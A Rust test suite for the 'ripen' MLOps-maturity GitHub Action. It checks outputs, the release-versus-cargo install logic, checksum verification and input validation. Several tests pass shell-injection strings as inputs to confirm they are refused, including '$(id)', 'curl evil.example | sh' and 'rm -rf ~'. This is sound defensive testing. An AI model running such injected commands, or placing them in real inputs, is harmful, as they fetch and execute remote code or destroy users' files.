//! The composite action (`action.yml`) and its scripts (`action/*.sh`), exercised the way a
//! GitHub runner would: inputs as `INPUT_*` environment variables, `$GITHUB_OUTPUT`,
//! `$GITHUB_STEP_SUMMARY` and `$RUNNER_TEMP` as files, and ripen from this build.
//!
//! Installing: the action's ref is simulated by its directory (`.../_actions/OWNER/REPO/REF`)
//! and `github.action_ref`; a release is served from a directory (`GITHUB_SERVER_URL=file://…`)
//! holding archives made by `scripts/release-archive.sh`; `cargo` is a stand-in on PATH that
//! records its arguments.

use serde_json::Value;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn action() -> Value {
    let text = std::fs::read_to_string(repo().join("action.yml")).unwrap();
    serde_saphyr::from_str(&text).unwrap()
}

#[test]
fn inputs_reach_shell_only_through_env() {
    let a = action();
    let steps = a["runs"]["steps"].as_array().unwrap();
    assert_eq!(a["runs"]["using"], "composite");
    for s in steps {
        if let Some(run) = s["run"].as_str() {
            assert!(!run.contains("${{"), "expression inside run: {run}");
            assert_eq!(s["shell"], "bash");
        }
        if let Some(uses) = s["uses"].as_str() {
            let (_, rev) = uses.split_once('@').expect("pinned");
            assert!(
                rev.len() == 40 && rev.chars().all(|c| c.is_ascii_hexdigit()),
                "{uses} is pinned by commit SHA"
            );
        }
    }
    for input in [
        "path",
        "fail-under",
        "format",
        "sarif-file",
        "config",
        "rules",
        "version",
        "install",
        "enclosing-repo",
    ] {
        assert!(a["inputs"].get(input).is_some(), "input {input}");
    }
    for output in ["google-level", "azure-level", "report-json"] {
        assert!(
            a["outputs"][output]["value"]
                .as_str()
                .unwrap()
                .contains("steps.scan.outputs."),
            "output {output}"
        );
    }
}

/// What a step script did: exit code, stdout, stderr and what it wrote to `$GITHUB_OUTPUT`.
struct Step {
    code: i32,
    stdout: String,
    stderr: String,
    output: String,
}

/// One step script run as the runner would run it, in the repository: `$GITHUB_OUTPUT`,
/// `$GITHUB_PATH`, `$GITHUB_STEP_SUMMARY` and `$RUNNER_TEMP` in `tmp`, HOME there too, and of
/// the runner's and the action's variables (`GITHUB_*`, `INPUT_*`, `RIPEN_*`) only those given.
fn step(script: &str, tmp: &Path, env: &[(&str, &str)]) -> Step {
    let output = tmp.join("output");
    let _ = std::fs::remove_file(&output);
    let mut c = Command::new("bash");
    c.arg(repo().join("action").join(script))
        .current_dir(repo());
    for (k, _) in std::env::vars_os() {
        let k = k.to_string_lossy();
        if ["GITHUB_", "INPUT_", "RIPEN_"]
            .iter()
            .any(|p| k.starts_with(p))
        {
            c.env_remove(&*k);
        }
    }
    c.env("HOME", tmp.join("home"))
        .env("GITHUB_OUTPUT", &output)
        .env("GITHUB_PATH", tmp.join("path"))
        .env("GITHUB_STEP_SUMMARY", tmp.join("summary.md"))
        .env("RUNNER_TEMP", tmp)
        .env("RUNNER_OS", "Linux")
        .env("RUNNER_ARCH", "X64")
        .env("NO_COLOR", "1");
    for (k, v) in env {
        c.env(k, v);
    }
    let out = c.output().unwrap();
    Step {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        output: std::fs::read_to_string(&output).unwrap_or_default(),
    }
}

/// A step script's exit code, stderr and `$GITHUB_OUTPUT` as a map.
fn run_step(
    script: &str,
    tmp: &Path,
    env: &[(&str, &str)],
) -> (i32, String, BTreeMap<String, String>) {
    let s = step(script, tmp, env);
    let outputs = s
        .output
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    (s.code, s.stderr, outputs)
}

fn scan_sh(env: &[(&str, &str)]) -> (i32, String, String, PathBuf, tempfile::TempDir) {
    let tmp = tempfile::tempdir().unwrap();
    let bin = assert_cmd::cargo::cargo_bin("ripen");
    let mut all = vec![
        ("RIPEN_BIN", bin.to_str().unwrap()),
        ("GITHUB_ACTIONS", "true"),
    ];
    all.extend_from_slice(env);
    let s = step("scan.sh", tmp.path(), &all);
    (
        s.code,
        s.stdout,
        s.output,
        tmp.path().join("summary.md"),
        tmp,
    )
}

#[test]
fn scan_step_sets_outputs_writes_reports_and_passes_the_exit_code() {
    let sarif = tempfile::NamedTempFile::new().unwrap();
    let (code, stdout, outputs, summary, _tmp) = scan_sh(&[
        ("INPUT_PATH", "fixtures/dvc-mlflow"),
        ("INPUT_FAIL_UNDER", "azure=2, google=1"),
        ("INPUT_SARIF_FILE", sarif.path().to_str().unwrap()),
    ]);
    assert_eq!(code, 0, "{stdout}");
    assert!(
        stdout.starts_with("ripen "),
        "format github by default: {stdout}"
    );
    assert!(
        outputs.contains("google-level=1\n") && outputs.contains("azure-level=2\n"),
        "{outputs}"
    );
    let json_path = outputs
        .lines()
        .find_map(|l| l.strip_prefix("report-json="))
        .expect("report-json output");
    let report: Value = serde_json::from_str(&std::fs::read_to_string(json_path).unwrap()).unwrap();
    assert_eq!(report["models"]["azure"]["level"], 2);
    assert_eq!(report["targets"].as_array().unwrap().len(), 2);
    let sarif: Value =
        serde_json::from_str(&std::fs::read_to_string(sarif.path()).unwrap()).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    assert!(
        std::fs::read_to_string(summary)
            .unwrap()
            .contains("## ripen: MLOps maturity")
    );

    let (code, _, outputs, _, _tmp) = scan_sh(&[
        ("INPUT_PATH", "fixtures/ci-only"),
        ("INPUT_FAIL_UNDER", "azure=3"),
        ("INPUT_FORMAT", "text"),
    ]);
    assert_eq!(code, 1, "a target not met fails the step");
    assert!(
        outputs.contains("azure-level=1\n"),
        "outputs are written all the same: {outputs}"
    );

    let (code, _, _, _, _tmp) =
        scan_sh(&[("INPUT_PATH", "fixtures/ci-only"), ("INPUT_FORMAT", "pdf")]);
    assert_eq!(code, 2, "a usage error is exit 2");
}

#[test]
fn hostile_inputs_stay_arguments() {
    let marker = repo().join("target/pwned-by-input");
    let _ = std::fs::remove_file(&marker);
    let (code, _, _, _, _tmp) = scan_sh(&[
        ("INPUT_PATH", "fixtures/ci-only"),
        (
            "INPUT_FAIL_UNDER",
            "azure=1 $(touch target/pwned-by-input) `touch target/pwned-by-input` *",
        ),
    ]);
    assert_eq!(
        code, 2,
        "the junk is refused by ripen as a bad --fail-under value"
    );
    assert!(!marker.exists(), "nothing was executed");
}

#[test]
fn a_path_input_beginning_with_a_dash_is_a_path() {
    // Before `--`, `--version` was an option: ripen printed its version and the step passed.
    let (code, stdout, _, _, _tmp) = scan_sh(&[("INPUT_PATH", "--version")]);
    assert_eq!(code, 2, "a directory that does not exist: {stdout}");
    assert!(!stdout.starts_with("ripen "), "{stdout}");
    let (code, _, _, _, _tmp) = scan_sh(&[
        ("INPUT_PATH", "fixtures/ci-only"),
        ("INPUT_CONFIG", "--help"),
    ]);
    assert_eq!(code, 2, "--config=--help names a file");
}

#[test]
fn trust_inputs_reach_the_gate() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tmp.path().join(".github/workflows")).unwrap();
    std::fs::write(
        tmp.path().join(".github/workflows/train.yml"),
        "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: python train.py\n",
    )
    .unwrap();
    std::fs::write(
        tmp.path().join("train.py"),
        "from sklearn.ensemble import RandomForestClassifier\nRandomForestClassifier().fit(X, y)\n",
    )
    .unwrap();
    std::fs::write(
        tmp.path().join(".ripen.yml"),
        "attestations:\n  - capability: experiment_tracking\n    reason: elsewhere\n",
    )
    .unwrap();
    let path = tmp.path().to_str().unwrap();
    let (without, ..) = scan_sh(&[("INPUT_PATH", path), ("INPUT_FAIL_UNDER", "google=1")]);
    let (with, ..) = scan_sh(&[
        ("INPUT_PATH", path),
        ("INPUT_FAIL_UNDER", "google=1"),
        ("INPUT_TRUST_ATTESTATIONS", "true"),
    ]);
    assert_eq!((without, with), (1, 0));
    let (bad, ..) = scan_sh(&[("INPUT_PATH", path), ("INPUT_TRUST_WAIVERS", "yes")]);
    assert_eq!(bad, 2);
}

/// The action declares exactly the outputs its scan step writes: each `$GITHUB_OUTPUT` key is
/// an output of action.yml (else the workflow cannot read it), and each output is written.
#[test]
fn the_action_declares_every_output_the_scan_writes() {
    let (code, stdout, output, _, _tmp) = scan_sh(&[("INPUT_PATH", "fixtures/dvc-mlflow")]);
    assert_eq!(code, 0, "{stdout}");
    let written: std::collections::BTreeSet<&str> = output
        .lines()
        .filter_map(|l| l.split_once("<<").or_else(|| l.split_once('=')))
        .map(|(k, _)| k)
        .collect();
    let a = action();
    let declared: std::collections::BTreeSet<&str> = a["outputs"]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(written, declared, "{output}");
    for (name, o) in a["outputs"].as_object().unwrap() {
        assert_eq!(
            o["value"].as_str().unwrap(),
            format!("${{{{ steps.scan.outputs.{name} }}}}"),
            "{name}"
        );
    }
}

/// `path:` a sub-directory of the checkout (a monorepo's project): by default the root's
/// workflow that runs the project's tests counts (`--enclosing-repo`); `enclosing-repo: false`
/// scans the directory alone, which then says what it cannot see.
#[test]
fn a_sub_directory_path_uses_the_enclosing_repository_by_default() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    std::fs::create_dir_all(root.join(".github/workflows")).unwrap();
    std::fs::create_dir_all(root.join("proj/tests")).unwrap();
    std::fs::write(
        root.join(".github/workflows/ci.yml"),
        "on: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pytest proj/tests\n",
    )
    .unwrap();
    std::fs::write(
        root.join("proj/tests/test_model.py"),
        "import sklearn\n\ndef test_fit():\n    assert True\n",
    )
    .unwrap();
    std::fs::write(
        root.join("proj/train.py"),
        "from sklearn.linear_model import LogisticRegression\nLogisticRegression().fit([[0], [1]], [0, 1])\n",
    )
    .unwrap();
    std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(root)
        .status()
        .unwrap();
    let proj = root.join("proj");
    let proj = proj.to_str().unwrap();
    let (code, stdout, outputs, _, _tmp) =
        scan_sh(&[("INPUT_PATH", proj), ("INPUT_FORMAT", "text")]);
    assert_eq!(code, 0, "{stdout}");
    assert!(outputs.contains("azure-level=1\n"), "{outputs}\n{stdout}");
    assert!(stdout.contains("Scope: proj/"), "{stdout}");
    let (_, stdout, outputs, _, _tmp) = scan_sh(&[
        ("INPUT_PATH", proj),
        ("INPUT_FORMAT", "text"),
        ("INPUT_ENCLOSING_REPO", "false"),
    ]);
    assert!(outputs.contains("azure-level=0\n"), "{outputs}");
    assert!(stdout.contains("--enclosing-repo"), "{stdout}");
    let (bad, ..) = scan_sh(&[("INPUT_PATH", proj), ("INPUT_ENCLOSING_REPO", "yes")]);
    assert_eq!(bad, 2);
}

#[test]
fn max_waiver_days_input_reaches_the_gate() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("README.md"), "# x\n").unwrap();
    std::fs::write(
        tmp.path().join(".ripen.yml"),
        "waivers:\n  - capability: experiment_tracking\n    reason: later\n    expires: 2027-12-31\n",
    )
    .unwrap();
    let path = tmp.path().to_str().unwrap();
    let today = ("RIPEN_TODAY", "2026-06-01");
    let (default, ..) = scan_sh(&[("INPUT_PATH", path), today]);
    let (longer, ..) = scan_sh(&[
        ("INPUT_PATH", path),
        ("INPUT_MAX_WAIVER_DAYS", "1000"),
        today,
    ]);
    assert_eq!((default, longer), (2, 0));
    for bad in ["1e9", "-5", "30 --trust-waivers", "$(id)"] {
        let (code, ..) = scan_sh(&[("INPUT_PATH", path), ("INPUT_MAX_WAIVER_DAYS", bad), today]);
        assert_eq!(code, 2, "{bad}");
    }
    let a = action();
    assert_eq!(a["inputs"]["max-waiver-days"]["default"], "365");
    for step in a["runs"]["steps"].as_array().unwrap() {
        if step["run"]
            .as_str()
            .is_some_and(|r| r.contains("scan.sh") || r.contains("diff.sh"))
        {
            assert_eq!(
                step["env"]["INPUT_MAX_WAIVER_DAYS"], "${{ inputs.max-waiver-days }}",
                "{step}"
            );
            assert_eq!(
                step["env"]["INPUT_TRUST_WAIVERS"], "${{ inputs.trust-waivers }}",
                "{step}"
            );
        }
    }
}

/// The action checked out by the runner at `uses: owner/ripen@REF`, holding a Cargo.toml of
/// `version`.
fn checked_out_action(tmp: &Path, git_ref: &str, version: &str) -> PathBuf {
    let dir = tmp.join("_actions/owner/ripen").join(git_ref);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("Cargo.toml"),
        format!("[package]\nname = \"ripen-mlops\"\nversion = \"{version}\"\n"),
    )
    .unwrap();
    dir
}

/// resolve.sh for an action used at `git_ref` whose Cargo.toml says `version`.
fn resolve(
    git_ref: &str,
    version: &str,
    inputs: &[(&str, &str)],
) -> (i32, String, BTreeMap<String, String>) {
    let tmp = tempfile::tempdir().unwrap();
    let action = checked_out_action(tmp.path(), git_ref, version);
    let mut env = vec![
        ("GITHUB_ACTION_PATH", action.to_str().unwrap()),
        ("RIPEN_ACTION_REF", git_ref),
        ("RIPEN_ACTION_REPOSITORY", "owner/ripen"),
    ];
    env.extend_from_slice(inputs);
    run_step("resolve.sh", tmp.path(), &env)
}

#[test]
fn a_release_tag_maps_to_its_release_anything_else_to_cargo() {
    let sha = "0123456789abcdef0123456789abcdef01234567";
    for (git_ref, crate_version, inputs, method, version) in [
        ("v0.2.0", "0.2.0", &[][..], "release", "0.2.0"),
        ("v0", "0.2.0", &[], "release", "0.2.0"),
        ("v0.2", "0.2.0", &[], "release", "0.2.0"),
        ("v1.0.0-rc.1", "1.0.0-rc.1", &[], "release", "1.0.0-rc.1"),
        // A tag that does not hold that version (moved, or a fork's): build what it holds.
        ("v0.3.0", "0.2.0", &[], "cargo", ""),
        ("v0.3", "0.2.0", &[], "cargo", ""),
        ("v1", "0.2.0", &[], "cargo", ""),
        (sha, "0.2.0", &[], "cargo", ""),
        ("main", "0.2.0", &[], "cargo", ""),
        ("release-candidate", "0.2.0", &[], "cargo", ""),
        // Inputs: an explicit version wins; install: cargo always builds.
        (
            sha,
            "0.2.0",
            &[("RIPEN_VERSION", "v0.1.5")],
            "release",
            "0.1.5",
        ),
        (
            "v0.2.0",
            "0.2.0",
            &[("RIPEN_INSTALL", "cargo")],
            "cargo",
            "",
        ),
        (
            "v0.2.0",
            "0.2.0",
            &[("RIPEN_INSTALL", "release")],
            "release",
            "0.2.0",
        ),
    ] {
        let (code, stderr, out) = resolve(git_ref, crate_version, inputs);
        assert_eq!(code, 0, "{git_ref} {inputs:?}: {stderr}");
        assert_eq!(out["method"], method, "{git_ref} {inputs:?}");
        assert_eq!(
            out.get("version").map_or("", String::as_str),
            version,
            "{git_ref}"
        );
        assert_eq!(out["repository"], "owner/ripen");
        assert!(out["dir"].ends_with("/home/.cache/ripen-action"), "{out:?}");
        assert_eq!(
            out.contains_key("key"),
            method == "cargo",
            "a cache key for builds only"
        );
    }
}

#[test]
fn resolve_trusts_the_ref_only_for_the_action_s_own_checkout() {
    // A composite action nested in another sees the outer action's ref and repository.
    let tmp = tempfile::tempdir().unwrap();
    let action = checked_out_action(tmp.path(), "v0.2.0", "0.2.0");
    let (code, _, out) = run_step(
        "resolve.sh",
        tmp.path(),
        &[
            ("GITHUB_ACTION_PATH", action.to_str().unwrap()),
            ("RIPEN_ACTION_REF", "v0.2.0"),
            ("RIPEN_ACTION_REPOSITORY", "someone/wrapper"),
        ],
    );
    assert_eq!(code, 0);
    assert_eq!(out["method"], "cargo");
    // `uses: ./`: no ref, no repository.
    let (code, _, out) = run_step(
        "resolve.sh",
        tmp.path(),
        &[("GITHUB_ACTION_PATH", repo().to_str().unwrap())],
    );
    assert_eq!(code, 0);
    assert_eq!(out["method"], "cargo");
}

#[test]
fn resolve_refuses_contradictions_and_malformed_inputs() {
    let sha = "0123456789abcdef0123456789abcdef01234567";
    for (git_ref, inputs, message) in [
        (
            sha,
            &[("RIPEN_INSTALL", "release")][..],
            "install: release, but",
        ),
        (
            "v0.2.0",
            &[("RIPEN_INSTALL", "cargo"), ("RIPEN_VERSION", "0.2.0")],
            "contradict",
        ),
        ("v0.2.0", &[("RIPEN_INSTALL", "docker")], "install must be"),
        (
            "v0.2.0",
            &[("RIPEN_VERSION", "1.0.0; curl evil.example | sh")],
            "version must be a release number",
        ),
    ] {
        let (code, stderr, out) = resolve(git_ref, "0.2.0", inputs);
        assert_eq!(code, 2, "{inputs:?}");
        assert!(stderr.contains(message), "{inputs:?}: {stderr}");
        assert!(out.is_empty(), "no outputs on an error: {out:?}");
    }
}

#[test]
fn the_cache_key_follows_the_source() {
    let tmp = tempfile::tempdir().unwrap();
    let env = [("GITHUB_ACTION_PATH", repo().to_str().unwrap().to_owned())];
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let (code, _, a) = run_step("resolve.sh", tmp.path(), &env);
    assert_eq!(code, 0);
    assert!(a["key"].starts_with("ripen-Linux-X64-"), "{a:?}");
    let (_, _, b) = run_step("resolve.sh", tmp.path(), &env);
    assert_eq!(a["key"], b["key"], "stable for the same source");
    let (_, _, other) = resolve("main", "0.2.0", &[]);
    assert_ne!(a["key"], other["key"], "another source, another key");
}

/// This machine's release target, as install.sh names it.
fn host_target() -> &'static str {
    match (std::env::consts::OS, std::env::consts::ARCH) {
        ("linux", "x86_64") => "x86_64-unknown-linux-musl",
        ("linux", "aarch64") => "aarch64-unknown-linux-musl",
        ("macos", "x86_64") => "x86_64-apple-darwin",
        ("macos", "aarch64") => "aarch64-apple-darwin",
        other => panic!("no release target for {other:?}"),
    }
}

/// A stand-in `cargo` that records its arguments and "installs" this build's ripen into
/// `--root`/bin.
fn fake_cargo(tmp: &Path) -> (PathBuf, PathBuf) {
    let dir = tmp.join("fakebin");
    std::fs::create_dir_all(&dir).unwrap();
    let log = tmp.join("cargo-args");
    let script = format!(
        "#!/bin/sh\nprintf '%s\\n' \"$@\" > '{log}'\nwhile [ $# -gt 0 ]; do [ \"$1\" = --root ] && root=$2; shift; done\nmkdir -p \"$root/bin\" && cp '{bin}' \"$root/bin/ripen\"\n",
        log = log.display(),
        bin = assert_cmd::cargo::cargo_bin("ripen").display(),
    );
    let cargo = dir.join("cargo");
    std::fs::write(&cargo, script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&cargo, std::fs::Permissions::from_mode(0o755)).unwrap();
    (dir, log)
}

/// resolve.sh, then install.sh with resolve's outputs, as action.yml chains them (no cache hit).
fn install(tmp: &Path, git_ref: &str, server: &str) -> (i32, String, PathBuf, PathBuf) {
    let action = checked_out_action(tmp, git_ref, env!("CARGO_PKG_VERSION"));
    let (fakebin, cargo_log) = fake_cargo(tmp);
    let path = format!("{}:{}", fakebin.display(), std::env::var("PATH").unwrap());
    let action = action.to_str().unwrap();
    let (code, stderr, out) = run_step(
        "resolve.sh",
        tmp,
        &[
            ("GITHUB_ACTION_PATH", action),
            ("RIPEN_ACTION_REF", git_ref),
            ("RIPEN_ACTION_REPOSITORY", "owner/ripen"),
        ],
    );
    assert_eq!(code, 0, "{stderr}");
    let get = |k: &str| out.get(k).cloned().unwrap_or_default();
    let (code, stderr, _) = run_step(
        "install.sh",
        tmp,
        &[
            ("GITHUB_ACTION_PATH", action),
            ("GITHUB_SERVER_URL", server),
            ("PATH", &path),
            ("RIPEN_DIR", &get("dir")),
            ("RIPEN_METHOD", &get("method")),
            ("RIPEN_VERSION", &get("version")),
            ("RIPEN_REPOSITORY", &get("repository")),
        ],
    );
    (
        code,
        stderr,
        PathBuf::from(get("dir")).join("bin/ripen"),
        cargo_log,
    )
}

/// A release of this version served from a directory, as GitHub serves release assets.
fn serve_release(tmp: &Path) -> (String, PathBuf) {
    let assets = tmp.join(format!(
        "server/owner/ripen/releases/download/v{}",
        env!("CARGO_PKG_VERSION")
    ));
    let out = Command::new("bash")
        .arg(repo().join("scripts/release-archive.sh"))
        .arg(host_target())
        .arg(assert_cmd::cargo::cargo_bin("ripen"))
        .arg(&assets)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    (
        format!("file://{}", tmp.join("server").display()),
        assets.join(format!("ripen-{}.tar.gz", host_target())),
    )
}

#[test]
fn a_tag_ref_downloads_the_release_and_verifies_its_checksum() {
    let tmp = tempfile::tempdir().unwrap();
    let (server, archive) = serve_release(tmp.path());
    let git_ref = format!("v{}", env!("CARGO_PKG_VERSION"));
    let (code, stderr, ripen, cargo_log) = install(tmp.path(), &git_ref, &server);
    assert_eq!(code, 0, "{stderr}");
    assert!(!cargo_log.exists(), "no build: cargo was not called");
    let out = Command::new(&ripen).arg("--version").output().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        format!("ripen {}\n", env!("CARGO_PKG_VERSION"))
    );
    let path = std::fs::read_to_string(tmp.path().join("path")).unwrap();
    assert_eq!(path.trim_end(), ripen.parent().unwrap().to_str().unwrap());

    // The same release with a corrupted archive: refused, nothing installed.
    std::fs::remove_file(&ripen).unwrap();
    let mut bytes = std::fs::read(&archive).unwrap();
    let n = bytes.len();
    bytes[n / 2] ^= 0xff;
    std::fs::write(&archive, bytes).unwrap();
    let (code, stderr, ripen, cargo_log) = install(tmp.path(), &git_ref, &server);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("checksum mismatch"), "{stderr}");
    assert!(!ripen.exists() && !cargo_log.exists());

    // No such release: the download fails the step.
    let (code, _, ripen, _) = install(tmp.path(), &git_ref, "file:///nonexistent");
    assert_ne!(code, 0);
    assert!(!ripen.exists());
}

#[test]
fn a_sha_ref_builds_the_action_s_source_with_cargo() {
    let tmp = tempfile::tempdir().unwrap();
    let sha = "0123456789abcdef0123456789abcdef01234567";
    let (code, stderr, ripen, cargo_log) = install(tmp.path(), sha, "file:///nonexistent");
    assert_eq!(code, 0, "{stderr}");
    let args = std::fs::read_to_string(&cargo_log).expect("cargo was called");
    let action = tmp.path().join("_actions/owner/ripen").join(sha);
    let root = ripen.parent().unwrap().parent().unwrap();
    assert_eq!(
        args,
        format!(
            "install\n--path\n{}\n--locked\n--root\n{}\n",
            action.display(),
            root.display()
        )
    );
    assert!(ripen.exists());
}

#[test]
fn install_refuses_a_malformed_version_before_any_download() {
    let tmp = tempfile::tempdir().unwrap();
    for (version, repository) in [
        ("1.0.0; curl evil.example | sh", "owner/ripen"),
        ("0.2.0", ""),
        ("0.2.0", "owner/ripen; rm -rf ~"),
    ] {
        let (code, stderr, _) = run_step(
            "install.sh",
            tmp.path(),
            &[
                ("RIPEN_DIR", tmp.path().to_str().unwrap()),
                ("RIPEN_METHOD", "release"),
                ("RIPEN_VERSION", version),
                ("RIPEN_REPOSITORY", repository),
                ("PATH", "/usr/bin:/bin"),
            ],
        );
        assert_eq!(code, 2, "{version} {repository}: {stderr}");
    }
}
